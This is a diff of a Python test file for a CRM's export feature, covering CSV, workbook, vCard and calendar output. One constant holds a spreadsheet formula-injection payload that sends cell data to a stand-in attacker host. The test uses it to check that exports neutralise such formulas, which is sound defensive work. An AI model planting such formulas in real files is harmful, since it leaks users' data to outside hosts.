@@ -4,9 +4,11 @@ import csv
 from datetime import date, datetime
 from decimal import Decimal
 from io import BytesIO, StringIO
+from pathlib import Path
 from typing import Any
 
 import pytest
+from icalendar import Calendar
 from openpyxl import load_workbook
 
 from skills.exporting import export_records
@@ -15,7 +17,10 @@ from skills.turn import Refused, Unclear
 from storage.contacts import Contact
 from storage.customers import Customer
 from storage.deals import Deal
+from storage.exchange.address_book import card_tables
+from storage.exchange.report import ImportReport
 from storage.products import Order
+from storage.reminders import Reminder
 from tests.skills.house import House
 
 HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"pay")'
@@ -51,9 +56,13 @@ def read_csv(file: File) -> list[dict[str, str]]:
     return list(csv.DictReader(StringIO(file.content.decode("utf-8-sig"), newline="")))
 
 
-def read_workbook(file: File) -> list[list[Any]]:
+def sheet_of(file: File) -> Any:
     assert isinstance(file.content, bytes)
-    return [[cell.value for cell in row] for row in load_workbook(BytesIO(file.content)).active.iter_rows()]
+    return load_workbook(BytesIO(file.content)).worksheets[0]
+
+
+def read_workbook(file: File) -> list[list[Any]]:
+    return [[cell.value for cell in row] for row in sheet_of(file).iter_rows()]
 
 
 def test_a_list_becomes_a_csv_of_all_its_fields(trade: House) -> None:
@@ -78,9 +87,7 @@ def test_a_workbook_holds_text_as_text_and_figures_as_figures(trade: House) -> N
     _, file = exported(trade, entity="customer", filters=[["city", "=", "Oslo"]], sort="name")
     header, *rows = read_workbook(file)
     named = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
-    assert isinstance(file.content, bytes)
-    sheet = load_workbook(BytesIO(file.content)).active
-    kinds = {cell.value: cell.data_type for cell in sheet["A"]}
+    kinds = {cell.value: cell.data_type for cell in sheet_of(file)["A"]}
     assert kinds[HOSTILE] == "s"
     assert named["Acme Pumps"]["revenue"] == 12500.5
     assert isinstance(named["Acme Pumps"]["created at"], datetime)
@@ -99,6 +106,31 @@ def test_birthdays_are_days_in_a_workbook(trade: House) -> None:
     _, file = exported(trade, entity="contact", filters=[["name", "=", "Ann Lee"]])
     header, row = read_workbook(file)
     assert row[header.index("birthday")].date() == date(1990, 2, 28)
+
+
+def test_contacts_become_cards_that_read_back(trade: House, tmp_path: Path) -> None:
+    reply, file = exported(trade, entity="contact", filters=[["name", "=", "Ann Lee"]], form="vcf")
+    assert reply.text == "1 contact as vCards."
+    assert isinstance(file.content, str)
+    (tmp_path / "out.vcf").write_text(file.content, newline="")
+    *_, contacts = card_tables(tmp_path / "out.vcf", ImportReport("t"))
+    (ann,) = (dict(zip(contacts.header, row.cells, strict=True)) for row in contacts.rows)
+    assert ann == {"name": "Ann Lee", "customer": "Acme Pumps", "birthday": "1990-02-28"}
+
+
+def test_reminders_become_a_calendar_in_their_zone(trade: House) -> None:
+    with trade.turn() as turn:
+        reminder = Reminder(about="Call, then mail", due_at=turn.now, person=turn.speaker, zone="Europe/Berlin")
+        reminder.every = "FREQ=WEEKLY;BYDAY=MO"
+        turn.crm.reminders.add(reminder)
+    _, file = exported(trade, form="ics")
+    assert isinstance(file.content, bytes)
+    event: Any = Calendar.from_ical(file.content).walk("VEVENT")[0]
+    assert str(event["SUMMARY"]) == "Call, then mail"
+    assert event["DTSTART"].dt.isoformat() == "2026-11-23T10:30:00+01:00"
+    assert event["RRULE"].to_ical() == b"FREQ=WEEKLY;BYDAY=MO"
+    with trade.turn() as turn, pytest.raises(Refused, match="I write contacts as vCards"):
+        export_records(turn, entity="deal", form="vcf")
 
 
 def test_an_empty_list_makes_no_file_and_nothing_named_is_asked_for(trade: House) -> None:
